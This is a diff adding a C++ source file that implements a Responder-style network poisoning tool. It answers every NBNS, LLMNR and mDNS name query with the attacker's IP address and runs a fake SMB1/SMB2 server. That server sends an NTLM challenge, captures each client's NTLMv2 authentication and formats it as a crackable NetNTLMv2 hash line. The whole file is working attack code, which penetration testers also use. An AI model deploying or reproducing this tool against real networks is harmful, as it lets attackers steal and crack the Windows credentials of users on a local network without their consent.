@@ -0,0 +1,682 @@
+#include "responder_proto.h"
+#include <ctype.h>
+#include <stdio.h>
+#include <string.h>
+
+namespace responder {
+
+static inline void put16(uint8_t *p, uint16_t v) {
+    p[0] = v & 0xFF;
+    p[1] = v >> 8;
+}
+static inline void put32(uint8_t *p, uint32_t v) {
+    for (int i = 0; i < 4; i++) p[i] = (v >> (8 * i)) & 0xFF;
+}
+static inline void put64(uint8_t *p, uint64_t v) {
+    for (int i = 0; i < 8; i++) p[i] = (v >> (8 * i)) & 0xFF;
+}
+static inline uint16_t le16(const uint8_t *p) { return p[0] | (p[1] << 8); }
+static inline uint32_t le32(const uint8_t *p) {
+    return p[0] | (p[1] << 8) | (p[2] << 16) | ((uint32_t)p[3] << 24);
+}
+static inline uint16_t be16(const uint8_t *p) { return (p[0] << 8) | p[1]; }
+
+static const uint8_t *findNtlmssp(const uint8_t *pkt, size_t len) {
+    for (size_t i = 0; i + 8 <= len; i++) {
+        if (memcmp(pkt + i, "NTLMSSP", 8) == 0) return pkt + i;
+    }
+    return nullptr;
+}
+
+/*********************************************************************
+**  NetBIOS names
+**********************************************************************/
+void encodeNetBIOSName(const char *name, uint8_t out[32]) {
+    // 15 chars padded with spaces + 0x20 suffix (Server service), each byte as two 'A'..'P'
+    char namePad[16];
+    memset(namePad, ' ', 15);
+    namePad[15] = 0x20;
+    size_t n = strlen(name);
+    if (n > 15) n = 15;
+    for (size_t i = 0; i < n; ++i) namePad[i] = toupper(name[i]);
+    for (int i = 0; i < 16; ++i) {
+        uint8_t c = (uint8_t)namePad[i];
+        out[2 * i] = 0x41 + ((c >> 4) & 0x0F);
+        out[2 * i + 1] = 0x41 + (c & 0x0F);
+    }
+}
+
+void decodeNetBIOSLabel(const uint8_t *enc32, char *out, size_t outSize) {
+    if (!enc32 || !out || outSize == 0) return;
+    uint8_t raw[16];
+    for (int i = 0; i < 16; ++i) {
+        uint8_t c1 = enc32[2 * i];
+        uint8_t c2 = enc32[2 * i + 1];
+        uint8_t hi = (c1 >= 'A' && c1 <= 'P') ? (uint8_t)(c1 - 'A') : 0;
+        uint8_t lo = (c2 >= 'A' && c2 <= 'P') ? (uint8_t)(c2 - 'A') : 0;
+        raw[i] = (uint8_t)((hi << 4) | lo);
+    }
+
+    // 15 bytes of space padded name, 16th is the suffix/type -> "NAME<XX>"
+    char name[16];
+    memcpy(name, raw, 15);
+    name[15] = '\0';
+    int end = 14;
+    while (end >= 0 && name[end] == ' ') end--;
+    name[end + 1] = '\0';
+    snprintf(out, outSize, "%s<%02X>", name, raw[15]);
+}
+
+/*********************************************************************
+**  NBNS (UDP 137)
+**********************************************************************/
+size_t nbnsAnswer(
+    const uint8_t *query, size_t len, const uint8_t ip[4], uint8_t *reply, size_t cap, char *name,
+    size_t nameCap
+) {
+    // header (12) + length byte (0x20) + 32 encoded + terminator + type + class
+    if (len < 50 || cap < 62) return 0;
+    uint16_t flags = be16(query + 2);
+    uint16_t qdCount = be16(query + 4);
+    if ((flags & 0x8000) || qdCount < 1 || query[12] != 0x20 || query[45] != 0x00) return 0;
+    if (be16(query + 46) != 0x0020 || be16(query + 48) != 0x0001) return 0; // NB, IN
+
+    decodeNetBIOSLabel(query + 13, name, nameCap);
+
+    // Answer every query without checking the name
+    reply[0] = query[0];
+    reply[1] = query[1];
+    reply[2] = 0x84; // response, AA
+    reply[3] = 0x00;
+    memset(reply + 4, 0, 8);
+    reply[7] = 0x01;                    // ANCOUNT
+    memcpy(reply + 12, query + 12, 34); // encoded name + terminator
+    reply[46] = 0x00;
+    reply[47] = 0x20; // NB
+    reply[48] = 0x00;
+    reply[49] = 0x01; // IN
+    reply[50] = 0x00;
+    reply[51] = 0x00;
+    reply[52] = 0x00;
+    reply[53] = 0x3C; // TTL 60s
+    reply[54] = 0x00;
+    reply[55] = 0x06; // RDLENGTH
+    reply[56] = 0x00;
+    reply[57] = 0x00; // NB flags: unique
+    memcpy(reply + 58, ip, 4);
+    return 62;
+}
+
+/*********************************************************************
+**  LLMNR (UDP 5355, 224.0.0.252)
+**********************************************************************/
+size_t llmnrAnswer(
+    const uint8_t *query, size_t len, const uint8_t ip[4], uint8_t *reply, size_t cap, char *name,
+    size_t nameCap
+) {
+    if (len < 12) return 0;
+    uint16_t flags = be16(query + 2);
+    uint16_t qdCount = be16(query + 4);
+    uint16_t anCount = be16(query + 6);
+    if ((flags & 0x8000) || qdCount == 0 || anCount != 0) return 0;
+
+    // single label names only, which is what Windows sends for short host names
+    uint8_t labelLen = query[12];
+    if (labelLen == 0 || labelLen >= 64 || (size_t)(14 + labelLen + 4) > len) return 0;
+    if (query[13 + labelLen] != 0x00) return 0;
+
+    const uint8_t *qtypePtr = query + 14 + labelLen;
+    uint16_t qType = be16(qtypePtr);
+    uint16_t qClass = be16(qtypePtr + 2);
+    size_t n = labelLen < nameCap - 1 ? labelLen : nameCap - 1;
+    memcpy(name, query + 13, n);
+    name[n] = '\0';
+
+    bool isA = qType == 0x0001;
+    bool isAAAA = qType == 0x001C;
+    if ((!isA && !isAAAA) || qClass != 0x0001) return 0;
+
+    size_t questionLen = 1 + labelLen + 1 + 2 + 2;
+    size_t ansOff = 12 + questionLen;
+    size_t total = ansOff + (isA ? 16 : 28);
+    if (total > cap) return 0;
+
+    reply[0] = query[0];
+    reply[1] = query[1];
+    reply[2] = 0x84; // QR | AA
+    reply[3] = 0x00;
+    reply[4] = 0x00;
+    reply[5] = 0x01; // QDCOUNT
+    reply[6] = 0x00;
+    reply[7] = 0x01; // ANCOUNT
+    memset(reply + 8, 0, 4);
+    memcpy(reply + 12, query + 12, questionLen);
+
+    uint8_t *a = reply + ansOff;
+    a[0] = 0xC0; // pointer to the question name
+    a[1] = 0x0C;
+    a[2] = qtypePtr[0];
+    a[3] = qtypePtr[1];
+    a[4] = 0x00;
+    a[5] = 0x01; // IN
+    a[6] = 0x00;
+    a[7] = 0x00;
+    a[8] = 0x00;
+    a[9] = 0x1E; // TTL 30s
+    if (isA) {
+        a[10] = 0x00;
+        a[11] = 0x04;
+        memcpy(a + 12, ip, 4);
+    } else {
+        // ::ffff:a.b.c.d
+        a[10] = 0x00;
+        a[11] = 0x10;
+        memset(a + 12, 0, 10);
+        a[22] = 0xFF;
+        a[23] = 0xFF;
+        memcpy(a + 24, ip, 4);
+    }
+    return total;
+}
+
+/*********************************************************************
+**  mDNS (UDP 5353, 224.0.0.251)
+**********************************************************************/
+// Reads a possibly compressed name as a dotted string; `next` is the offset after the name
+static bool readDnsName(const uint8_t *msg, size_t len, size_t pos, size_t &next, char *out, size_t cap) {
+    size_t n = 0;
+    bool jumped = false;
+    for (int steps = 0; steps < 128; steps++) { // bounds pointer loops
+        if (pos >= len) return false;
+        uint8_t l = msg[pos];
+        if ((l & 0xC0) == 0xC0) {
+            if (pos + 1 >= len) return false;
+            if (!jumped) next = pos + 2;
+            jumped = true;
+            pos = ((l & 0x3F) << 8) | msg[pos + 1];
+            continue;
+        }
+        if (l == 0) {
+            if (!jumped) next = pos + 1;
+            out[n] = '\0';
+            return true;
+        }
+        if (l > 63 || pos + 1 + l > len || n + l + 2 > cap) return false;
+        if (n) out[n++] = '.';
+        memcpy(out + n, msg + pos + 1, l);
+        n += l;
+        pos += 1 + l;
+    }
+    return false;
+}
+
+static bool endsWithLocal(const char *name) {
+    size_t n = strlen(name);
+    if (n < 7) return false;
+    const char *suffix = name + n - 6;
+    for (int i = 0; i < 6; i++) {
+        if (tolower(suffix[i]) != ".local"[i]) return false;
+    }
+    return true;
+}
+
+size_t mdnsAnswer(
+    const uint8_t *query, size_t len, uint16_t srcPort, const uint8_t ip[4], uint8_t *reply, size_t cap,
+    char *name, size_t nameCap, bool &unicast
+) {
+    if (len < 12) return 0;
+    uint16_t flags = be16(query + 2);
+    uint16_t qdCount = be16(query + 4);
+    if ((flags & 0x8000) || qdCount == 0) return 0;
+
+    char qname[256];
+    size_t pos = 12;
+    for (uint16_t q = 0; q < qdCount && q < 8; q++) {
+        size_t next = pos;
+        if (!readDnsName(query, len, pos, next, qname, sizeof(qname))) return 0;
+        if (next + 4 > len) return 0;
+        uint16_t qType = be16(query + next);
+        uint16_t qClass = be16(query + next + 2);
+        pos = next + 4;
+
+        if ((qType != 0x0001 && qType != 0x00FF) || (qClass & 0x7FFF) != 0x0001) continue;
+        if (!endsWithLocal(qname)) continue;
+
+        size_t nameLen = strlen(qname);
+        size_t total = 12 + nameLen + 2 + 10 + 4;
+        if (total > cap) return 0;
+
+        unicast = (qClass & 0x8000) || srcPort != 5353;
+        snprintf(name, nameCap, "%s", qname);
+
+        memset(reply, 0, 12);
+        if (srcPort != 5353) { // legacy unicast resolver expects its ID back
+            reply[0] = query[0];
+            reply[1] = query[1];
+        }
+        reply[2] = 0x84; // response, AA
+        reply[7] = 0x01; // ANCOUNT
+
+        // answer name written out in full, label by label
+        uint8_t *p = reply + 12;
+        const char *label = qname;
+        while (*label) {
+            const char *dot = strchr(label, '.');
+            size_t l = dot ? (size_t)(dot - label) : strlen(label);
+            *p++ = (uint8_t)l;
+            memcpy(p, label, l);
+            p += l;
+            label += l + (dot ? 1 : 0);
+        }
+        *p++ = 0x00;
+        *p++ = 0x00;
+        *p++ = 0x01; // A
+        *p++ = 0x80;
+        *p++ = 0x01; // IN + cache flush
+        *p++ = 0x00;
+        *p++ = 0x00;
+        *p++ = 0x00;
+        *p++ = 0x78; // TTL 120s
+        *p++ = 0x00;
+        *p++ = 0x04;
+        memcpy(p, ip, 4);
+        p += 4;
+        return p - reply;
+    }
+    return 0;
+}
+
+/*********************************************************************
+**  NTLM
+**********************************************************************/
+size_t buildNtlmChallenge(const ServerInfo &info, const uint8_t challenge[8], uint8_t *out, size_t cap) {
+    const size_t NTLM_HEADER_SIZE = 48;
+    size_t nameLen = strlen(info.netbiosName);
+    size_t targetLen = nameLen * 2;
+    size_t avLen = 4 * 5 + 2 * (2 * nameLen + strlen(info.netbiosDomain) + 2 * strlen(info.dnsDomain)) +
+                   12 + 4;
+    if (NTLM_HEADER_SIZE + targetLen + avLen > cap) return 0;
+
+    uint8_t *av = out + NTLM_HEADER_SIZE + targetLen;
+    size_t offset = 0;
+    auto appendAVPair = [&](uint16_t type, const char *data) {
+        size_t l = strlen(data);
+        put16(av + offset, type);
+        put16(av + offset + 2, l * 2);
+        offset += 4;
+        for (size_t i = 0; i < l; i++) {
+            av[offset++] = data[i];
+            av[offset++] = 0x00;
+        }
+    };
+    appendAVPair(0x0001, info.netbiosName);
+    appendAVPair(0x0002, info.netbiosDomain);
+    appendAVPair(0x0003, info.netbiosName);
+    appendAVPair(0x0004, info.dnsDomain);
+    appendAVPair(0x0005, info.dnsDomain);
+    put16(av + offset, 0x0007); // timestamp
+    put16(av + offset + 2, 8);
+    put64(av + offset + 4, info.windowsTime ? info.windowsTime() : 0);
+    offset += 12;
+    put32(av + offset, 0); // end of list
+    offset += 4;
+
+    memcpy(out, "NTLMSSP\0", 8);
+    put32(out + 8, 2); // Type 2
+    put16(out + 12, targetLen);
+    put16(out + 14, targetLen);
+    put32(out + 16, NTLM_HEADER_SIZE);
+    put32(out + 20, 0xE2898215); // flags recommended for NTLMv2
+    memcpy(out + 24, challenge, 8);
+    memset(out + 32, 0, 8);
+    put16(out + 40, offset);
+    put16(out + 42, offset);
+    put32(out + 44, NTLM_HEADER_SIZE + targetLen);
+    for (size_t i = 0; i < nameLen; i++) {
+        out[NTLM_HEADER_SIZE + 2 * i] = info.netbiosName[i];
+        out[NTLM_HEADER_SIZE + 2 * i + 1] = 0x00;
+    }
+    return NTLM_HEADER_SIZE + targetLen + offset;
+}
+
+bool parseNtlmAuth(const uint8_t *ntlm, size_t len, NtlmAuth &out) {
+    if (!ntlm || len < 52 || memcmp(ntlm, "NTLMSSP", 8) != 0 || le32(ntlm + 8) != 3) return false;
+
+    uint16_t ntLen = le16(ntlm + 20);
+    uint32_t ntOff = le32(ntlm + 24);
+    if (ntLen <= 24 || (size_t)ntOff + ntLen > len) return false; // shorter means NTLMv1
+
+    auto readUTF16 = [&](size_t lenPos, std::string &s) -> bool {
+        uint16_t l = le16(ntlm + lenPos);
+        uint32_t off = le32(ntlm + lenPos + 4);
+        s.clear();
+        if ((size_t)off + l > len) return false;
+        for (uint16_t i = 0; i + 1 < l; i += 2) s += (char)ntlm[off + i];
+        return true;
+    };
+    if (!readUTF16(28, out.domain) || !readUTF16(36, out.user) || !readUTF16(44, out.workstation)) {
+        return false;
+    }
+    out.ntResponse = ntlm + ntOff;
+    out.ntResponseLen = ntLen;
+    return true;
+}
+
+std::string formatNetNtlmv2(const NtlmAuth &auth, const uint8_t challenge[8]) {
+    static const char hex[] = "0123456789ABCDEF";
+    std::string line;
+    line.reserve(auth.user.size() + auth.domain.size() + 24 + auth.ntResponseLen * 2 + 4);
+    line += auth.user;
+    line += "::";
+    line += auth.domain;
+    line += ':';
+    for (int i = 0; i < 8; i++) {
+        line += hex[challenge[i] >> 4];
+        line += hex[challenge[i] & 0x0F];
+    }
+    // first 16 bytes are the NTProofStr, the rest is the client blob
+    for (uint16_t i = 0; i < auth.ntResponseLen; i++) {
+        if (i == 0 || i == 16) line += ':';
+        line += hex[auth.ntResponse[i] >> 4];
+        line += hex[auth.ntResponse[i] & 0x0F];
+    }
+    return line;
+}
+
+/*********************************************************************
+**  SMB session
+**********************************************************************/
+#define SMB_FLAGS_REPLY 0x80
+#define SMB_FLAGS2_UNICODE 0x8000
+#define SMB_FLAGS2_ERR_STATUS32 0x4000
+#define SMB_FLAGS2_EXTSEC 0x0800
+#define SMB_FLAGS2_SIGNING_ENABLED 0x0008
+
+#define SMB_CAP_EXTSEC 0x80000000UL
+#define SMB_CAP_LARGE_FILES 0x00000008UL
+#define SMB_CAP_NT_SMBS 0x00000010UL
+#define SMB_CAP_UNICODE 0x00000004UL
+#define SMB_CAP_STATUS32 0x00000040UL
+
+#define STATUS_SUCCESS 0x00000000
+#define STATUS_MORE_PROCESSING_REQUIRED 0xC0000016
+
+static const uint32_t SMB_CAPABILITIES =
+    SMB_CAP_EXTSEC | SMB_CAP_LARGE_FILES | SMB_CAP_NT_SMBS | SMB_CAP_UNICODE | SMB_CAP_STATUS32;
+
+// SPNEGO NegTokenInit announcing NTLMSSP only
+static const uint8_t spnegoInitToken[] = {
+    0x60, 0x3A, 0x06, 0x06, 0x2B, 0x06, 0x01, 0x05, 0x05, 0x02, // OID 1.3.6.1.5.5.2
+    0xA0, 0x30, 0x30, 0x2E,                                     // NegTokenInit, mechTypes
+    0x06, 0x0A, 0x2B, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x02, 0x0A, // NTLM OID
+    0xA2, 0x20, 0x30, 0x1E, 0x02, 0x01, 0x02, 0x02, 0x01, 0x00,             // reqFlags
+};
+
+void SmbSession::begin(const ServerInfo *info) {
+    _info = info;
+    _state = State::Idle;
+    _rx.clear();
+    _tx.clear();
+    _sessionId = 0;
+    _captured = false;
+}
+
+void SmbSession::consumeTx(size_t n) {
+    if (n >= _tx.size()) _tx.clear();
+    else _tx.erase(_tx.begin(), _tx.begin() + n);
+}
+
+bool SmbSession::takeCapture(
+    std::string &hashLine, std::string &user, std::string &domain, std::string &client
+) {
+    if (!_captured) return false;
+    _captured = false;
+    hashLine.swap(_hash);
+    user.swap(_user);
+    domain.swap(_domain);
+    client.swap(_client);
+    return true;
+}
+
+SmbSession::Result SmbSession::feed(const uint8_t *data, size_t len) {
+    _rx.insert(_rx.end(), data, data + len);
+    while (_rx.size() >= 4) {
+        size_t frameLen = ((size_t)_rx[1] << 16) | ((size_t)_rx[2] << 8) | _rx[3];
+        if (frameLen > MAX_FRAME) return Result::Error;
+        if (_rx.size() < 4 + frameLen) break;
+
+        Result res = Result::Continue;
+        if (_rx[0] == 0x00 && frameLen > 0) res = handleFrame(_rx.data() + 4, frameLen); // 0x85 = keep-alive
+        _rx.erase(_rx.begin(), _rx.begin() + 4 + frameLen);
+        if (res != Result::Continue) return res;
+    }
+    return Result::Continue;
+}
+
+SmbSession::Result SmbSession::handleFrame(const uint8_t *pkt, size_t len) {
+    if (len >= 64 && pkt[0] == 0xFE && memcmp(pkt + 1, "SMB", 3) == 0) return handleSmb2(pkt, len);
+    if (len >= 35 && pkt[0] == 0xFF && memcmp(pkt + 1, "SMB", 3) == 0) return handleSmb1(pkt, len);
+    return Result::Continue;
+}
+
+uint8_t *SmbSession::frame(size_t payload) {
+    size_t start = _tx.size();
+    _tx.resize(start + 4 + payload, 0);
+    uint8_t *f = _tx.data() + start;
+    f[0] = 0x00; // NBSS session message
+    f[1] = (payload >> 16) & 0xFF;
+    f[2] = (payload >> 8) & 0xFF;
+    f[3] = payload & 0xFF;
+    return f + 4;
+}
+
+void SmbSession::newChallenge() {
+    uint32_t a = _info->random32 ? _info->random32() : 0x11223344;
+    uint32_t b = _info->random32 ? _info->random32() : 0x55667788;
+    put32(_challenge, a);
+    put32(_challenge + 4, b);
+}
+
+void SmbSession::capture(const uint8_t *ntlm, size_t len) {
+    NtlmAuth auth;
+    if (!parseNtlmAuth(ntlm, len, auth)) return;
+    _hash = formatNetNtlmv2(auth, _challenge);
+    _user = auth.user;
+    _domain = auth.domain;
+    _client = auth.workstation;
+    _captured = true;
+}
+
+SmbSession::Result SmbSession::handleSmb1(const uint8_t *pkt, size_t len) {
+    uint8_t command = pkt[4];
+
+    if (command == 0x72) { // NEGOTIATE
+        uint16_t bcc = le16(pkt + 33);
+        const uint8_t *d = pkt + 35;
+        const uint8_t *end = pkt + (35 + (size_t)bcc < len ? 35 + bcc : len);
+        // MS-SMB2 3.3.5.3.1: "SMB 2.???" gets the 0x02FF wildcard and the client sends a fresh SMB2
+        // NEGOTIATE, "SMB 2.002" alone gets 0x0202 and the client goes on with SMB 2.002
+        uint16_t smb2Dialect = 0;
+        uint16_t ntLmIndex = 0; // the reply names the chosen dialect by its position in the request
+        for (uint16_t index = 0; d < end && *d == 0x02; index++) { // dialect string
+            const char *dialect = (const char *)(d + 1);
+            size_t n = strnlen(dialect, end - d - 1);
+            if (n == 9 && strncmp(dialect, "SMB 2.???", 9) == 0) smb2Dialect = 0x02FF;
+            else if (n == 9 && strncmp(dialect, "SMB 2.002", 9) == 0 && !smb2Dialect) smb2Dialect = 0x0202;
+            else if (n == 10 && strncmp(dialect, "NT LM 0.12", 10) == 0) ntLmIndex = index;
+            d += 2 + n;
+        }
+        if (smb2Dialect) sendSmb2NegotiateFromSmb1(smb2Dialect);
+        else sendSmb1Negotiate(pkt, ntLmIndex);
+        _state = State::Negotiated;
+        return Result::Continue;
+    }
+
+    if (command == 0x73) { // SESSION SETUP ANDX
+        const uint8_t *ntlm = findNtlmssp(pkt, len);
+        if (!ntlm || len - (ntlm - pkt) < 12) return Result::Continue; // signature + message type
+        uint8_t type = ntlm[8];
+        if (type == 1) {
+            sendSmb1Challenge(pkt);
+            _state = State::ChallengeSent;
+        } else if (type == 3) {
+            capture(ntlm, len - (ntlm - pkt));
+            _state = State::Done;
+            return Result::Close;
+        }
+    }
+    return Result::Continue;
+}
+
+SmbSession::Result SmbSession::handleSmb2(const uint8_t *pkt, size_t len) {
+    uint16_t command = le16(pkt + 12);
+
+    if (command == 0x0000) { // NEGOTIATE
+        sendSmb2Negotiate(pkt);
+        _state = State::Negotiated;
+        return Result::Continue;
+    }
+    if (command == 0x0001) { // SESSION SETUP
+        const uint8_t *ntlm = findNtlmssp(pkt, len);
+        if (!ntlm || len - (ntlm - pkt) < 12) return Result::Continue;
+        uint8_t type = ntlm[8];
+        if (type == 1) {
+            newChallenge();
+            _sessionId = ((uint64_t)(_info->random32 ? _info->random32() : 1) << 32) |
+                         (_info->random32 ? _info->random32() : 1);
+            if (_sessionId == 0) _sessionId = 1;
+            sendSmb2Challenge(pkt);
+            _state = State::ChallengeSent;
+        } else if (type == 3) {
+            capture(ntlm, len - (ntlm - pkt));
+            sendSmb2Success(pkt);
+            _state = State::Done;
+            return Result::Close;
+        }
+        return Result::Continue;
+    }
+    if (command == 0x0003) return Result::Close; // TREE CONNECT after auth, nothing more to get
+    return Result::Continue;
+}
+
+void SmbSession::sendSmb1Negotiate(const uint8_t *req, uint16_t dialectIndex) {
+    const uint8_t WC = 17;
+    uint16_t bcc = sizeof(spnegoInitToken);
+    uint8_t *r = frame(33 + WC * 2 + 2 + bcc);
+
+    memcpy(r, req, 32);
+    r[4] = 0x72; // NEGOTIATE
+    put32(r + 5, STATUS_SUCCESS);
+    r[9] = SMB_FLAGS_REPLY;
+    put16(
+        r + 10, SMB_FLAGS2_UNICODE | SMB_FLAGS2_ERR_STATUS32 | SMB_FLAGS2_EXTSEC | SMB_FLAGS2_SIGNING_ENABLED
+    );
+    r[32] = WC;
+
+    uint8_t *p = r + 33;
+    put16(p + 0, dialectIndex);     // NT LM 0.12
+    p[2] = 0x03;                    // user-level security, signing supported
+    put16(p + 3, 0x0100);           // MaxMpxCount
+    put16(p + 5, 1);                // MaxVCs
+    put32(p + 7, 0x00010000);       // MaxBufferSize
+    put32(p + 11, 0x00010000);      // MaxRawSize
+    put32(p + 15, 0);               // SessionKey
+    put32(p + 19, SMB_CAPABILITIES);
+    put64(p + 23, 0);               // SystemTime
+    put16(p + 31, 0);               // TimeZone
+    p[33] = 0;                      // ChallengeLength, ExtSec mode
+
+    put16(r + 33 + WC * 2, bcc);
+    memcpy(r + 33 + WC * 2 + 2, spnegoInitToken, bcc);
+}
+
+void SmbSession::sendSmb1Challenge(const uint8_t *req) {
+    newChallenge();
+    uint8_t blob[512];
+    size_t blobLen = buildNtlmChallenge(*_info, _challenge, blob, sizeof(blob));
+
+    uint8_t *r = frame(43 + blobLen);
+    memcpy(r, req, 32);
+    r[4] = 0x73; // SESSION SETUP ANDX
+    put32(r + 5, STATUS_MORE_PROCESSING_REQUIRED);
+    r[9] = SMB_FLAGS_REPLY;
+    put16(
+        r + 10, SMB_FLAGS2_UNICODE | SMB_FLAGS2_ERR_STATUS32 | SMB_FLAGS2_EXTSEC | SMB_FLAGS2_SIGNING_ENABLED
+    );
+    r[32] = 4;    // WordCount
+    r[33] = 0xFF; // no further AndX
+    // AndXReserved at 34, AndXOffset at 35, Action at 37
+    put16(r + 39, blobLen); // SecurityBlobLength
+    put16(r + 41, blobLen); // ByteCount
+    memcpy(r + 43, blob, blobLen);
+}
+
+void SmbSession::sendSmb2NegotiateFromSmb1(uint16_t dialect) {
+    uint8_t *h = frame(64 + 65);
+    h[0] = 0xFE;
+    memcpy(h + 1, "SMB", 3);
+    put16(h + 4, 64);           // StructureSize
+    put16(h + 14, 1);           // CreditResponse
+    put32(h + 16, 0x00000001);  // SERVER_TO_REDIR
+    put32(h + 32, 0x0000FEFF);  // ProcessId
+
+    uint8_t *p = h + 64;
+    put16(p, 65);      // StructureSize
+    put16(p + 2, 1);   // signing enabled
+    put16(p + 4, dialect); // 0x02FF: the client renegotiates over SMB2
+    for (int i = 0; i < 4; i++) put32(p + 8 + 4 * i, _info->random32 ? _info->random32() : i);
+    put32(p + 28, 0x00010000); // MaxTrans
+    put32(p + 32, 0x00010000); // MaxRead
+    put32(p + 36, 0x00010000); // MaxWrite
+}
+
+void SmbSession::sendSmb2Negotiate(const uint8_t *req) {
+    uint8_t *r = frame(64 + 65);
+    memcpy(r, req, 64);
+    put16(r + 4, 64);
+    put32(r + 8, STATUS_SUCCESS);
+    if (r[14] == 0 && r[15] == 0) put16(r + 14, 1); // at least one credit
+    r[16] |= 0x01;                                  // SERVER_TO_REDIR
+    put64(r + 40, 0);                               // no session yet
+
+    uint8_t *p = r + 64;
+    put16(p, 65);
+    put16(p + 2, 1);      // signing enabled, not required
+    put16(p + 4, 0x0210); // SMB 2.1
+    for (int i = 0; i < 4; i++) put32(p + 8 + 4 * i, _info->random32 ? _info->random32() : i);
+    put32(p + 28, 0x00010000);
+    put32(p + 32, 0x00010000);
+    put32(p + 36, 0x00010000);
+}
+
+void SmbSession::sendSmb2Challenge(const uint8_t *req) {
+    uint8_t blob[512];
+    size_t blobLen = buildNtlmChallenge(*_info, _challenge, blob, sizeof(blob));
+
+    uint8_t *r = frame(64 + 8 + blobLen);
+    memcpy(r, req, 64);
+    put32(r + 8, STATUS_MORE_PROCESSING_REQUIRED);
+    r[16] |= 0x01;
+    put64(r + 40, _sessionId);
+
+    uint8_t *p = r + 64;
+    put16(p, 9);          // StructureSize
+    put16(p + 2, 0);      // SessionFlags
+    put16(p + 4, 64 + 8); // SecurityBufferOffset
+    put16(p + 6, blobLen);
+    memcpy(p + 8, blob, blobLen);
+}
+
+void SmbSession::sendSmb2Success(const uint8_t *req) {
+    uint8_t *r = frame(64 + 9);
+    memcpy(r, req, 64);
+    put32(r + 8, STATUS_SUCCESS);
+    r[16] |= 0x01;
+    put64(r + 40, _sessionId);
+
+    uint8_t *p = r + 64;
+    put16(p, 9);
+    put16(p + 4, 64 + 8);
+}
+
+} // namespace responder